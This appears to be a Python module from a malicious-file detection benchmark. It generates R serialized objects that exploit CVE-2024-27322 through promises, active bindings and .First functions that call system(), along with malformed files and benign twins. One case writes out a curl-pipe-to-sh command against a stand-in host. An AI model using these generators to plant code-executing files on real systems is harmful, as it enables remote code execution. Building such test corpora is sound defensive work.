"""R: objects that bring promises, active bindings, start-up functions and code (CVE-2024-27322), and honest twins."""

from __future__ import annotations

import bz2
import gzip
import lzma
import struct
import zlib
from collections.abc import Iterator

from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.hosts import EVIL
from benchmarks.corpus.malicious.payloads import COMMAND, COMMANDS, URL

NULL, UNBOUND, BASE = 254, 252, 241


def number(*values: int) -> bytes:
    """Integers of the XDR form."""
    return struct.pack(f">{len(values)}i", *values)


def characters(text: str) -> bytes:
    """A string of R's cache."""
    return number(0x40009, len(text.encode())) + text.encode()


def symbol(name: str) -> bytes:
    """A name."""
    return number(1) + characters(name)


def string(*texts: str) -> bytes:
    """A vector of strings."""
    return number(16, len(texts)) + b"".join(map(characters, texts))


def call(function: str, *arguments: bytes) -> bytes:
    """An unevaluated call."""
    return number(6) + symbol(function) + b"".join(number(2) + argument for argument in arguments) + number(NULL)


def promise(expression: bytes, environment: bytes = b"") -> bytes:
    """A promise that nobody has evaluated."""
    return (number(0x405) + environment if environment else number(5)) + number(UNBOUND) + expression


def closure(body: bytes) -> bytes:
    """A function without arguments."""
    return number(0x403, BASE, NULL) + body


def cells(*bindings: tuple[str, bytes], levels: int = 0) -> bytes:
    """A pairlist of named values: what a workspace is, and the frame of an environment."""
    return b"".join(number(0x402 | levels << 12) + symbol(name) + value for name, value in bindings) + number(NULL)


def environment(frame: bytes) -> bytes:
    """An environment with these variables."""
    return number(4, 0, 242) + frame + number(NULL, NULL)


def vector(*items: bytes) -> bytes:
    """A list."""
    return number(19, len(items)) + b"".join(items)


def rds(item: bytes, version: int = 3) -> bytes:
    """A serialized object."""
    return b"X\n" + number(version, 0x40202, 0x30500) + (number(5) + b"UTF-8" if version == 3 else b"") + item


def workspace(*bindings: tuple[str, bytes]) -> bytes:
    """A workspace."""
    return b"RDX3\n" + rds(cells(*bindings))


def database(*objects: bytes) -> bytes:
    """The database of a package."""
    return b"".join(struct.pack(">I", len(item)) + zlib.compress(item) for item in objects)


SYSTEM = call("system", string(COMMAND))
SOURCE = "CVE-2024-27322"


def cases() -> Iterator[Case]:
    """Objects and workspaces of R."""
    text = call("eval", call("parse", string(f"system('{COMMAND}')")))
    lazy = promise(SYSTEM, number(BASE))
    bad = {
        "promise.rds": gzip.compress(rds(promise(SYSTEM)), mtime=0),
        "promise-version2.rds": rds(promise(SYSTEM), 2),
        "promise-in-list.rds": bz2.compress(rds(vector(number(NULL), promise(text)))),
        "promise-in-attribute.rds": rds(number(0x210, 1) + characters("x") + cells(("names", promise(SYSTEM)))),
        "promise-in-environment.rds": rds(environment(cells(("x", promise(SYSTEM))))),
        "promise.RData": lzma.compress(workspace(("x", promise(SYSTEM)))),
        "promise-harmless-looking.rda": workspace(("x", promise(call("get", string("y"))))),
        "delayed-variable.rds": rds(environment(cells(("x", lazy)))),
        "active-binding.rds": rds(environment(cells(("x", closure(SYSTEM)), levels=1 << 15))),
        "first.RData": workspace((".First", closure(call("system", string(COMMANDS[1]))))),
        "function-system.rds": rds(vector(closure(SYSTEM))),
        "function-download.rds": rds(
            closure(call("system", call("paste0", string("curl -s http://198.51.100.7/x"), string(" | sh"))))
        ),
        "function-source.rds": rds(closure(call("source", string(URL)))),
        "function-text.rds": rds(closure(text)),
        "function-by-name.rds": rds(closure(call("do.call", string("system"), string(COMMAND)))),
        "raw-pickle.rds": rds(vector(number(24, len(EVIL)) + EVIL)),
        "trailing-pickle.rds": rds(number(NULL)) + EVIL,
        "length-huge.rds": rds(number(14, -1, 1 << 30, 0)),
        "reference-outside.rds": rds(number(255, 77)),
        "package.rdb": database(rds(string("a")), rds(promise(SYSTEM))),
        "nesting.rds": rds(number(19, 1) * 30_000),
    }
    for name, data in bad.items():
        technique = f"r-{name.partition('.')[0]}"
        yield Case(f"r/{name}", data, technique, source=SOURCE if "promise" in name else "own")
    good = {
        "numbers.rds": gzip.compress(rds(number(14, 2) + struct.pack(">2d", 1.5, 2.5)), mtime=0),
        "model.rds": rds(vector(call("lm", symbol("y")), closure(call("predict", symbol("x"))), string("a", "b"))),
        "workspace.RData": workspace(("x", string("text")), ("f", closure(call("sum", symbol("x"))))),
        "package.rdb": database(rds(string("a")), rds(closure(call("system", string("uname"))))),
        "delayed.rds": rds(environment(cells(("x", promise(call("sum", symbol("y")), number(BASE)))))),
    }
    for name, data in good.items():
        yield Case(f"r/benign-{name}", data, f"r-benign-{name.partition('.')[0]}", "benign", payload=False)
